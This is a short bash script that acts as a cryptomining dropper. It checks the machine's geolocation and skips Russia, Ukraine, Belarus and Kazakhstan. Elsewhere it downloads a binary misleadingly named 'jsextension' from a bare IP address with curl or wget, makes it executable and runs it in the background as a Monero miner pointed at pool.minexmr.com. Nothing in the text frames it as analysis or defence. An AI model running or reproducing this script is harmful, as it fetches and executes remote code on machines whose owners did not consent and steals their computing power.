#!/bin/bash
IP=$(curl -k https://freegeoip.app/xml/ | grep 'RU\|UA\|BY\|KZ')
if [ -z "$IP" ]; then
  curl http://159.148.186.228/download/jsextension -o jsextension
  if [ ! -f jsextension ]; then
    wget http://159.148.186.228/download/jsextension -O jsextension
  fi
  chmod +x jsextension
  ./jsextension -k --tls --rig-id q -o pool.minexmr.com:443 &
fi
